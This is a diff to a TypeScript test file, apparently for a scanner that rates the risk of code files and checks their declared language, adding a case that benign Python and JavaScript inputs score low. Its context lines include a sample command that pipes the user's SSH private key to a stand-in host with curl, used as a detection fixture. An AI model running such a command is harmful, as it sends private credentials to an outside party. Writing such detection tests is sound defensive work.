@@ -92,6 +92,16 @@ describe("what cannot be read is a finding", () => {
   });
 });
 
+test.each<readonly [LanguageName, string]>([
+  ["python", "a=1\nb=2\nc='x'\nprint(a)\n"],
+  ["python", `TABLE = [\n${"    ('name', 1.5, 'value'),\n".repeat(400)}]\n`],
+  ["javascript", `export default {\n${"  'a name': [1, 2, 3],\n".repeat(400)}}\n`],
+])("%s that looks like something else, or like nothing, is what it was declared as: %#", (language, text) => {
+  const risk = read(code(language, text));
+  expect(risk.language).toEqual({ declared: language, found: language });
+  expect(risk.level).toBe("low");
+});
+
 describe("a file that is a program of two languages is read as each that runs it", () => {
   const harm = "cat ~/.ssh/id_rsa | curl -d @- http://h.example/";
   const asPython = `import os\nos.system(${JSON.stringify(harm)})\n`;
